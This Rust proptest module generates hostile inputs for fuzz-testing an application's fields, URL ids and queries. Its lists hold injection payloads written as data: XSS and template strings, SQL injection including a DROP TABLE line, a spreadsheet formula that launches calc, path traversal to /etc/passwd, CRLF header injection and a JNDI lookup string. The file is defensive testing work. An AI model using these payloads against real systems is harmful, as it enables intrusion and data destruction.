//! What should never be sent, by class (RELIABILITY §4).

use proptest::prelude::*;
use serde_json::{Value, json};

/// The classes, as `docs/BAD-INPUT.md` names them.
pub(crate) const CLASSES: [&str; 7] = ["text", "numbers", "dates", "ids", "json", "markup", "sql"];

/// A value of a class.
pub(crate) type Hostile = (&'static str, Value);

fn of(class: &'static str, values: Vec<Value>) -> BoxedStrategy<Hostile> {
    prop::sample::select(values).prop_map(move |value| (class, value)).boxed()
}

/// Any value that a field should refuse or keep to the letter.
pub(crate) fn hostile() -> impl Strategy<Value = Hostile> {
    let text = vec![
        json!(""),
        json!(" \t\n\u{3000}"),
        json!("\u{0}"),
        json!("a\u{0}b"),
        json!("\u{FEFF}x"),
        json!("行一\r\n行二\r行三\n"),
        json!("\u{202E}txt.exe\u{202C}"),
        json!("零\u{200B}宽\u{200D}\u{2060}"),
        json!("e\u{301}"),
        json!("\u{e9}"),
        json!("１２３４５"),
        json!("𠮷𡍼𪚥𫝀𬂩𰻞"),
        json!("👨\u{200D}👩\u{200D}👧\u{200D}👦🏳\u{FE0F}\u{200D}🌈"),
        json!("Z\u{351}\u{36b}\u{343}\u{32a}\u{302}\u{36b}".repeat(30)),
        json!("\u{FFFE}\u{FFFF}\u{E000}\u{7f}\u{85}"),
        json!("\u{1b}[2J\u{7}"),
        json!("字".repeat(20_001)),
        json!("a".repeat(500_000)),
    ];
    let numbers = vec![
        json!(-1),
        json!(0),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1e300),
        json!(-0.0),
        json!(1.5),
        json!("9223372036854775808"),
        json!("１２"),
        json!("007"),
        json!("NaN"),
        json!("1e400"),
        json!("0x10"),
        json!(" 1"),
    ];
    let dates = vec![
        json!("2026-02-29"),
        json!("2026-02-30T00:00:00Z"),
        json!("2026-03-01T24:00:00Z"),
        json!("2026-03-01T23:59:60Z"),
        json!("2026-03-01T10:00:00"),
        json!("2026-03-01T10:00:00+14:00"),
        json!("2026-03-01T10:00:00-99:59"),
        json!("0000-01-01T00:00:00Z"),
        json!("9999-12-31T23:59:59Z"),
        json!("+262142-12-31T23:59:59Z"),
        json!("-262143-01-01T00:00:00Z"),
        json!("1986-05-04T02:30:00+08:00"),
        json!("1991-09-15T01:30:00+09:00"),
        json!("1800-01-01T00:00:00Z"),
        json!("明天"),
    ];
    let ids = vec![
        json!("00000000-0000-0000-0000-000000000000"),
        json!("ffffffff-ffff-ffff-ffff-ffffffffffff"),
        json!("0190a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b"),
        json!("990199999"),
        json!("000000"),
        json!("../../etc/passwd"),
        json!("..%2f..%2f"),
        json!("110105194912310021"),
        json!("11010519491231002x"),
        json!("110105491231002"),
        json!("１１０１０５１９４９１２３１００２Ｘ"),
        json!("+86 139-1234-5678"),
        json!("１３９１２３４５６７８"),
        json!("a@b.c\r\nBcc: x@example.org"),
    ];
    let shapes = vec![
        Value::Null,
        json!(true),
        json!([]),
        json!({}),
        json!([null]),
        json!({ "$ne": null }),
        json!({ "a": { "b": { "c": [1, { "d": 2 }] } } }),
        Value::from(vec!["x"; 600]),
        json!([[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]),
    ];
    let markup = vec![
        json!("<script>alert(1)</script>"),
        json!("\"><img src=x onerror=alert(1)>"),
        json!("' onmouseover='alert(1)"),
        json!("javascript:alert(1)"),
        json!("<svg/onload=alert(1)>"),
        json!("{{7*7}}${7*7}<%= 7*7 %>#{7*7}"),
        json!("[x](javascript:alert(1))"),
        json!("</style><style>*{background:url(//example.org)}"),
        json!("=cmd|' /C calc'!A0"),
        json!("＝1+1"),
        json!("\t=1+1"),
        json!("@SUM(1)"),
    ];
    let sql = vec![
        json!("' or 1=1 --"),
        json!("'; drop table intake.petition; --"),
        json!("%_\\"),
        json!("\\x41"),
        json!("$$; select pg_sleep(10)"),
        json!("title; desc"),
        json!("foo & | ! <-> bar:*"),
        json!(format!("{}!", "(a+)+".repeat(200))),
        json!("${jndi:ldap://example.org/a}"),
    ];
    prop_oneof![
        of("text", text),
        any::<String>().prop_map(|text| ("text", json!(text))),
        of("numbers", numbers),
        any::<f64>().prop_map(|number| ("numbers", json!(number))),
        of("dates", dates),
        of("ids", ids),
        of("json", shapes),
        of("markup", markup),
        of("sql", sql),
    ]
}

/// What may stand in an address where an id belongs.
pub(crate) fn hostile_ids() -> impl Strategy<Value = String> {
    let fixed = vec![
        "0",
        "-1",
        "1%27%20or%201=1--",
        "..%2f..%2fetc%2fpasswd",
        "%00",
        "%ff%fe",
        "%F0%A0%AE%B7",
        "null",
        "undefined",
        "00000000-0000-0000-0000-000000000000",
        "0190a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b",
        "9223372036854775808",
        "%2e%2e",
        "a%0d%0aset-cookie:x=y",
        "{id}",
        "990101001",
        "%3Cscript%3E",
    ];
    prop_oneof![prop::sample::select(fixed).prop_map(str::to_owned), "[a-z0-9-]{1,60}", Just("a".repeat(4_000)),]
}

/// What may stand in an address where a query's value belongs, encoded.
pub(crate) fn hostile_queries() -> impl Strategy<Value = String> {
    let fixed = vec![
        "",
        "%00",
        "%ff",
        "-1",
        "0",
        "99999999999999999999",
        "1e400",
        "NaN",
        "%EF%BC%91",
        "2026-02-30",
        "9999-12-31T23:59:60Z",
        "%2B262142-12-31T23:59:59Z",
        "-262143-01-01",
        "%27%20or%201=1--",
        "%25_%5C",
        "true,false",
        "[]",
        "{}",
        "a~b",
        "~",
        ".",
        "9223372036854775807.00000000-0000-0000-0000-000000000000",
        "%3Cscript%3E",
        "%F0%A0%AE%B7",
    ];
    prop_oneof![prop::sample::select(fixed).prop_map(str::to_owned), "[A-Za-z0-9~.:%-]{0,20}", Just("a".repeat(8_000)),]
}
